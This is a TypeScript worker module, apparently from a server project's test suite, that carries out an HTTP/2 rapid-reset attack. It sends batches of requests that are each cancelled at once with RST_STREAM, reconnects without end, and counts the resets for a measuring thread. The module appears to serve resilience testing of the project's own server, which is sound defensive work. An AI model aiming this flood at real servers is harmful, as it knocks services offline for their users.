import { connect } from 'node:net'
import { setImmediate } from 'node:timers/promises'
import { workerData } from 'node:worker_threads'
import { encodeFrame, encodeRequest, frameType, GREETING } from '../../test/support/http2-frames.ts'

/** The task of the thread that attacks. */
export interface Resets {
  readonly host: string
  readonly port: number
  /** Its only element becomes the number of requests that were reset. Shared with the thread that measures. */
  readonly sent: Int32Array<SharedArrayBuffer>
}

const BATCH = 100
const CANCEL = Buffer.from([0, 0, 0, 8])

// The program of a thread that attacks a server: it sends requests and resets each of them at once (rapid reset). If the
// server closes the connection, it opens the next.
const { host, port, sent } = workerData as Resets
for (;;) await attack()

async function attack(): Promise<void> {
  const socket = connect(port, host).on('error', () => {})
  socket.resume().on('end', () => socket.destroy())
  const closed = new Promise((resolve) => socket.once('close', resolve))
  socket.write(GREETING)
  for (let stream = 1; !socket.destroyed && stream < 2 ** 31 - 2 * BATCH; stream += 2 * BATCH) {
    const batch = Array.from({ length: BATCH }, (_, index) => requestAndReset(stream + 2 * index))
    Atomics.add(sent, 0, BATCH)
    if (!socket.write(Buffer.concat(batch))) {
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed])
    }
    await setImmediate()
  }
  await closed
}

function requestAndReset(stream: number): Buffer {
  const request = encodeRequest(stream, { ':path': '/services/my-org/my-service' })
  return Buffer.concat([request, encodeFrame({ type: frameType.rstStream, stream, payload: CANCEL })])
}
